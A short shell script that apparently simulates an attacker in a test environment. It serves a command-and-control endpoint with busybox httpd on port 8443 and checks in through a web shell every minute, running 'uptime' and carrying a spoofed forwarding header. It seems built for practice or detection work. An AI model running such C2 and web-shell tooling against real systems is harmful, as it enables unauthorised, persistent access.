#!/bin/sh
# The attacker, standing in for the internet: a C2 server the beacon on web calls
# (busybox httpd on 8443), and a check-in through the web shell every minute. Its requests
# carry X-Forwarded-For: 203.0.113.77, as the company's reverse proxy would add it.
httpd -p 8443 -h /srv/c2
for attempt in $(seq 30); do  # the first check-in as soon as web answers
  /opt/attack/shell.sh uptime >/dev/null 2>&1 && break
  sleep 2
done
sleep 60
while :; do
  /opt/attack/shell.sh uptime >/dev/null 2>&1
  sleep 60
done
